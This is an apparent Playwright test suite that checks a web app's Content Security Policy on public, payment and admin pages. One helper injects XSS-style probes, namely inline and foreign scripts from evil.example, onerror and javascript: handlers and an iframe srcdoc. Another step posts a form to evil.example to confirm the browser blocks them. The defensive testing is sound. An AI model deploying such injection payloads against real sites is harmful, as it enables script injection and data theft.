import { expect, type Page, test } from '@playwright/test'
import { query } from '../support/database'
import { site } from '../support/site'
import { placeOrder } from './prepare'
import { wordsOf } from './support'
import { cardFrame, PLACE } from './way'

/** Everything that the browser refused on the pages that follow. */
const watchPolicy = async (page: Page): Promise<string[]> => {
  const refused: string[] = []
  await page.exposeFunction('plumblineRefused', (what: string) => refused.push(what))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const tell = (window as unknown as { plumblineRefused: (what: string) => void }).plumblineRefused
      tell(`${window.location.pathname}: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`)
    })
  })
  page.on('console', (message) => {
    if (/Content Security Policy|Permissions-Policy|Cross-Origin/i.test(message.text()))
      refused.push(message.text())
  })
  return refused
}

/** Scripts ran and asked for what they want. */
const settle = (page: Page): Promise<void> => page.waitForLoadState('networkidle')

const PAGES = [
  `/landing_page/new/${PLACE}?hl=EN`,
  `/landing_page/test_center/${PLACE}?hl=DE`,
  `/answer_question/start_loading/${PLACE}?hl=EN`,
  `/retrieve_report/${PLACE}?hl=EN`,
  `/support/${PLACE}?hl=EN`,
  `/protocol/privacy/${PLACE}?hl=EN`,
  `/r/${PLACE}?hl=EN`,
  '/no/such/page?hl=EN',
]

/** Runs in the page: a script in every way that one can come in. */
const inject = (): void => {
  const script = document.createElement('script')
  script.textContent = 'window.__pwn = 1'
  document.body.append(script)
  const foreign = document.createElement('script')
  foreign.src = 'https://evil.example/x.js'
  document.body.append(foreign)
  const image = document.createElement('div')
  image.innerHTML = '<img src="data:," onerror="window.__pwn = 2"><a href="javascript:window.__pwn = 3">x</a>'
  document.body.append(image)
  image.querySelector('a')?.click()
  const frame = document.createElement('iframe')
  frame.srcdoc = '<script>parent.__pwn = 4</script>'
  document.body.append(frame)
  // In a turn of its own: what the test itself evaluates is exempt.
  setTimeout('window.__pwn = 5')
}

test('no page asks for more than its policy allows, and what is injected neither runs nor sends', async ({
  page,
}) => {
  const refused = await watchPolicy(page)

  await test.step('each page lives within its policy', async () => {
    for (const path of PAGES) {
      await page.goto(path)
      await settle(page)
    }
    expect(refused).toEqual([])
  })

  await test.step('an injected script does not run, however it came in', async () => {
    await page.goto(`/landing_page/new/${PLACE}?hl=EN`)
    await page.evaluate(inject)
    await expect.poll(() => refused.length).toBeGreaterThanOrEqual(6)
    expect(await page.evaluate(() => (window as unknown as { __pwn?: number }).__pwn)).toBeUndefined()
  })

  await test.step('a form that stands in a page of ours sends nothing elsewhere', async () => {
    await page.goto(`/retrieve_report/${PLACE}?hl=EN`)
    await page.evaluate(() => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    })
    await expect.poll(() => refused.join()).toContain('form-action')
  })
})

test('the card form stands on the paying page, also after going there from another one, and back @deep', async ({
  page,
}, info) => {
  const refused = await watchPolicy(page)
  const t = wordsOf('EN')
  const orderNumber = await placeOrder(page, `frame-${info.project.name}-${Date.now()}@example.com`)
  await page.goto(`/report/result-free-test/${PLACE}?hl=EN`)
  // A document of its own, although the link is one of Next's router.
  await page.evaluate(() => Object.assign(window, { sameDocument: true }))
  await page.locator('a[href*="/paying/scheme"]').first().click()
  await expect(page).toHaveURL(/\/paying\/scheme/)
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { sameDocument?: boolean }).sameDocument))
    .toBeUndefined()
  await page.goto(`/paying/payment/${PLACE}?hl=EN&orderNumber=${orderNumber}`)
  await page.getByRole('radio').first().check({ force: true })
  await expect(cardFrame(page).locator('[autocomplete="cc-number"]')).toBeVisible({ timeout: 20_000 })
  expect(t('pay.payment.form')).toBeTruthy()
  expect(refused).toEqual([])
})

test('the admin works within its policy: sign in, list, edit a rich text @desk @deep', async ({ page }) => {
  const refused = await watchPolicy(page)
  const { email, password } = site().admin
  await page.goto('/admin/login')
  await page.locator('#field-email').fill(email)
  await page.locator('#field-password').fill(password)
  await page.locator('form button[type="submit"]').click()
  await expect(page).toHaveURL(/\/admin\/?$/, { timeout: 30_000 })
  await page.goto('/admin/collections/protocols')
  await expect(page.locator('table tbody tr').first()).toBeVisible({ timeout: 30_000 })
  const [protocol] = await query<{ id: string }>('select id from protocols limit 1')
  await page.goto(`/admin/collections/protocols/${protocol?.id}`)
  const editor = page.locator('[data-lexical-editor="true"]').first()
  await editor.click({ timeout: 30_000 })
  await page.keyboard.type('Words of an editor. ')
  await expect(editor).toContainText('Words of an editor.')
  const [question] = await query<{ id: string }>('select id from questions limit 1')
  for (const path of [
    `/admin/collections/questions/${question?.id}`,
    '/admin/collections/landing-pages',
    '/admin/account',
  ]) {
    await page.goto(path)
    await settle(page)
  }
  expect(refused).toEqual([])
})
